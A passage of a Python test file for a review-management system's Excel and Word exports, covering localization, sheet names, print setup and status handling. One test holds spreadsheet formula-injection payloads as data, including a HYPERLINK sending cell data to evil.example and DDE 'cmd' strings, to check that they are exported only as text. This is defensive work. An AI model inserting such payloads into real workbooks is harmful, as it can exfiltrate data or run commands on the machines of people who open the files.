        review_form(quarter, OFFICE, member.id, tmp_path / "m.docx", lang="en")
    )
    assert member_fields["Post category"] == "医技"
    assert member_fields["Signature"] == ""
    assert not any("\u4e00" <= ch <= "\u9fff" for key in member_fields for ch in key)

    ledger = openpyxl.load_workbook(
        ledger_workbook(quarter, OFFICE, QUARTER, tmp_path / "l.xlsx", lang="en")
    )
    assert ledger.sheetnames[0] == "Totals"
    assert list(rows(ledger["内科党支部"])[1]) == [
        "Organization",
        "Subject",
        "Reviewer",
        "Date of review",
        "Review content (requirement)",
        "Measure",
        "Owner",
        "Due",
        "Status",
        "Done on",
    ]
    assert rows(ledger["内科党支部"])[2][8] == "open"
    assert rows(ledger["Totals"])[-1][0] == "Total"

    coverage = openpyxl.load_workbook(
        coverage_workbook(quarter, OFFICE, QUARTER, tmp_path / "c.xlsx", lang="en")
    )
    values = label_values(coverage["Totals"], stop="Reviewers' own completion")
    assert set(values) == {
        "Scope",
        "Expected",
        "Reviewed",
        "Closed",
        "In progress",
        "Waived",
        "Not applicable",
        "Not covered",
        "Coverage rate",
    }
    assert ("2023-12", "member", "冯军", "周明", "not scheduled") in table_after(
        coverage["内科党支部"], "Period", start_after="Gaps"
    )

    summary = openpyxl.load_workbook(
        summary_workbook(quarter, OFFICE, "bureau", 2023, tmp_path / "s.xlsx", lang="en")
    )
    labels = set(label_values(summary["Totals"], stop="Subject"))
    assert {"organization", "member", "centralized review", "Requirements raised"} <= labels
    assert not any("\u4e00" <= ch <= "\u9fff" for label in labels for ch in str(label))


# -- sheet names -------------------------------------------------------------------------------


def test_sheet_names_stay_unique_excel_safe_and_short(tmp_path: Path) -> None:
    service = _fresh()
    roster = service.roster()
    long_name = "区人民医院[内科]:第一党支部*?/\\" + "很长的名字" * 6
    renamed = []
    for org_id, name in (("internal", long_name), ("surgery", long_name), ("organ", "汇总")):
        o = roster.organizations[org_id]
        renamed.append(rf.Organization(o.id, name, o.kind, o.org_type, o.parent_id, o.head_id))
    service.import_roster(OFFICE, organizations=renamed)
    for book in (
        openpyxl.load_workbook(coverage_workbook(service, OFFICE, QUARTER, tmp_path / "c.xlsx")),
        openpyxl.load_workbook(
            summary_workbook(service, OFFICE, "bureau", 2023, tmp_path / "s.xlsx")
        ),
        openpyxl.load_workbook(ledger_workbook(service, OFFICE, QUARTER, tmp_path / "l.xlsx")),
    ):
        names = book.sheetnames
        assert names[0] == "汇总"
        assert len({n.casefold() for n in names}) == len(names)
        assert all(0 < len(n) <= 31 for n in names)
        assert not any(ch in n for n in names for ch in "[]:*?/\\")
    coverage = openpyxl.load_workbook(tmp_path / "c.xlsx").sheetnames
    assert "汇总(2)" in coverage  # 局机关党支部 renamed 汇总
    assert sum(1 for n in coverage if n.startswith("区人民医院_内科__第一党支部")) == 2


HOSTILE = {
    "wu": '=HYPERLINK("http://evil.example/?"&B2,"详情")',
    "sun": "+cmd|' /C calc'!A0",
}
HOSTILE_MEASURE = '=WEBSERVICE("http://evil.example/")'
HOSTILE_DEEDS = "@SUM(1+1)*cmd|' /C calc'!A0"


def _hostile_quarter() -> rf.ReviewService:
    """The scenario's quarter with names and a ledger measure an attacker typed."""
    service = scenario_service(today=date(2023, 12, 28))
    roster = service.roster()
    members = [attrs.evolve(roster.members[m], name=name) for m, name in HOSTILE.items()]
    internal = attrs.evolve(roster.organizations["internal"], name="=1+1")
    service.import_roster(OFFICE, organizations=[internal], members=members)
    run_quarter(service)
    review = _find(service, "zhou", "sun", "2023-12")
    requirement = review.requirements[0]
    service.plan_item(
        "sun", review.id, requirement_id=requirement.id, measure=HOSTILE_MEASURE,
        owner=HOSTILE["sun"], due=date(2024, 1, 15),
    )  # fmt: skip
    service.record_exemplar(OFFICE, kind="member", subject_id="wu", deeds=HOSTILE_DEEDS)
    return service


def test_r_input_no_exported_workbook_carries_a_formula_from_user_text(tmp_path: Path) -> None:
    """Issue #16: text that begins with ``=`` or ``+`` (names, a ledger measure and owner) is
    written as text in every workbook: openpyxl reads no formula cell back, and the sheets'
    XML holds no ``<f>`` element, while the text itself is there to read."""
    service = _hostile_quarter()
    books = [
        coverage_workbook(service, OFFICE, QUARTER, tmp_path / "c.xlsx"),
        ledger_workbook(service, OFFICE, QUARTER, tmp_path / "l.xlsx"),
        summary_workbook(service, OFFICE, "bureau", 2023, tmp_path / "s.xlsx"),
    ]
    for path in books:
        book = openpyxl.load_workbook(path)
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], path.name
        texts = {str(c.value) for c in cells if c.value is not None}
        found = {
            t for t in (*HOSTILE.values(), "=1+1", HOSTILE_MEASURE) if any(t in x for x in texts)
        }
        assert found, path.name  # the hostile text is there, as text
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name), (path.name, name)
    ledger = openpyxl.load_workbook(books[1])
    ledger_texts = {c.value for s in ledger.worksheets for r in s.iter_rows() for c in r}
    assert {HOSTILE_MEASURE, HOSTILE["sun"]} <= ledger_texts
    summary = openpyxl.load_workbook(books[2])
    assert HOSTILE_DEEDS in {c.value for s in summary.worksheets for r in s.iter_rows() for c in r}


def test_r_input_a_control_character_stored_before_the_limits_does_not_stop_an_export(
    tmp_path: Path,
) -> None:
    """A name with U+000B written straight to the store (as data from before R-INPUT): the
    coverage workbook is still written, the character shown as a space."""
    service = _fresh()
    wu = attrs.evolve(service.roster().members["wu"], name="吴\x0b红")
    service.store.apply(rf.ChangeSet(roster=(wu,)))
    book = openpyxl.load_workbook(coverage_workbook(service, OFFICE, QUARTER, tmp_path / "c.xlsx"))
    texts = {c.value for s in book.worksheets for r in s.iter_rows() for c in r}
    assert "吴 红" in texts


def test_a_file_named_without_its_extension_gets_it(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    """Issue #16: a name without .xlsx/.docx (or with another) was written as given, and the
    office's Excel or Word would not open it by its name. Each writer returns the path it
    wrote."""
    rid = _find(quarter, "zhou", "wu", "2023-12").id
    written = [
        coverage_workbook(quarter, OFFICE, QUARTER, tmp_path / "覆盖情况"),
        ledger_workbook(quarter, OFFICE, QUARTER, tmp_path / "台账.xls"),
        summary_workbook(quarter, OFFICE, "bureau", 2023, tmp_path / "总结.XLSX"),
        review_form(quarter, OFFICE, rid, tmp_path / "点评表"),
    ]
    assert [p.name for p in written] == [
        "覆盖情况.xlsx",
        "台账.xls.xlsx",
        "总结.XLSX",
        "点评表.docx",
    ]
    assert all(p.exists() for p in written)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in written)
    openpyxl.load_workbook(written[0])
    docx.Document(str(written[3]))


def test_r_na_coverage_and_summary_workbooks_show_not_applicable(tmp_path: Path) -> None:
    """R-NA: a review ended as not applicable shows as 不适用 in the coverage workbook (totals,
    the reviewer's row, the organization's reviews) and in the yearly summary, never as a gap."""
    service = _fresh()
    review = _find(service, "he", "lv", "2023-11")
    service.mark_not_applicable(OFFICE, review.id, reason="该党员当月已调出")
    book = openpyxl.load_workbook(
        coverage_workbook(service, OFFICE, "2023-11", tmp_path / "c.xlsx")
    )
    totals = label_values(book["汇总"], stop="点评领导完成情况")
    assert (totals["应点评"], totals["不适用"], totals["未覆盖"]) == (10, 1, 0)
    (header,) = [r for r in rows(book["汇总"]) if r and r[0] == "点评领导"]
    assert header[:7] == ("点评领导", "应点评", "已点评", "已销号", "免于点评", "不适用", "完成率")
    names = service.roster().person_name
    he = next(r for r in table_after(book["汇总"], "点评领导") if r[0] == names("he"))
    assert he[1:6] == (2, 0, 0, 1, 1)
    assert he[6] == 1.0  # nothing left due: one waived, one not applicable
    listed = table_after(book["区疾控中心党支部"], "点评周期")
    assert ("2023-11", "党员", names("lv"), names("he"), "不适用") in listed
    summary = openpyxl.load_workbook(
        summary_workbook(service, OFFICE, "bureau", 2023, tmp_path / "s.xlsx")
    )
    assert label_values(summary["汇总"], stop="点评对象")["不适用"] == 1


def test_workbooks_are_set_up_to_print_on_a4(quarter: rf.ReviewService, tmp_path: Path) -> None:
    """Issue #16: one ledger row printed across three A4 pages. Every sheet is A4, fitted to
    the page's width, landscape where it is wide (the ledger), with its title (and a table's
    header, above the frozen panes) repeated on every page."""
    books = {
        "ledger": ledger_workbook(quarter, OFFICE, QUARTER, tmp_path / "l.xlsx"),
        "coverage": coverage_workbook(quarter, OFFICE, QUARTER, tmp_path / "c.xlsx"),
        "summary": summary_workbook(quarter, OFFICE, "bureau", 2023, tmp_path / "s.xlsx"),
    }
    for what, path in books.items():
        for sheet in openpyxl.load_workbook(path).worksheets:
            where = (what, sheet.title)
            assert str(sheet.page_setup.paperSize) == "9", where  # A4
            assert sheet.sheet_properties.pageSetUpPr.fitToPage, where
            assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0), where
            assert str(sheet.print_title_rows).startswith("$1:"), where
    ledger = openpyxl.load_workbook(books["ledger"])
    internal = ledger["内科党支部"]
    assert internal.page_setup.orientation == "landscape"
    assert internal.freeze_panes == "A3"
    assert internal.print_title_rows == "$1:$2"
    assert ledger["汇总"].page_setup.orientation == "portrait"
